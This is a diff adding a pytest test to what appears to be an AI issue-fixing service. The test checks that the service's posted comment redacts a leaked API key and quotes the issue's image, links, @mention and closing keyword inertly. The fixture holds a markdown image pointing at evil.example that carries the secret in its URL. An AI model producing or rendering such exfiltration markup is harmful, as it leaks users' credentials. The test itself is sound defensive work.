@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 import time
 from collections.abc import Callable
 
@@ -98,3 +99,27 @@ def test_a_resumed_attempt_keeps_the_contract_it_started_with(start_service: Cal
     assert second.contract.conventions.files == {}
     assert second.comment_url == first.comment_url
     assert len(fake_github.created_comments) == 1
+
+
+def test_the_contract_comment_is_redacted_and_quotes_the_issue_inertly(
+    start_service: Callable[..., Service], fake_github: FakeGitHub
+) -> None:
+    canary = "canary-contract-5d1f0b27"
+    serve_files(fake_github, REPO, {"pyproject.toml": "[tool.pytest.ini_options]\n"}, branch="master")
+    keep_created_comments(fake_github)
+    fake_github.issues[(REPO, 1)]["body"] = (
+        f"## Goal\nParse empty files (my key {canary} leaked here), cc @octocat\n"
+        f"![x](https://evil.example/pixel.png?k={canary}) and [docs](https://evil.example/docs)\n\n"
+        "## Acceptance criteria\n- `parse('')` is `[]`; fixes #2; see https://evil.example/a.png\n"
+    )
+    svc = start_service(pipeline=ContractStage(), anthropic_api_key=canary)
+    job = run_job(svc)
+    assert job.status == "done"
+    [(_, _, body)] = fake_github.created_comments
+    assert "### ai-fix: what I am going to do" in body and "Parse empty files" in body
+    assert canary not in body and canary[3:15] not in body
+    assert not any(canary[3:15] in json.dumps(c.json) for c in fake_github.calls if c.json)
+    # The issue's image, links, mention and closing keyword are shown, not followed or acted on.
+    assert "](" not in body and "`https://evil.example/a.png`" in body
+    assert "`@octocat`" in body and "`fixes` `#2`" in body
+    assert "`parse('')` is `[]`" in body
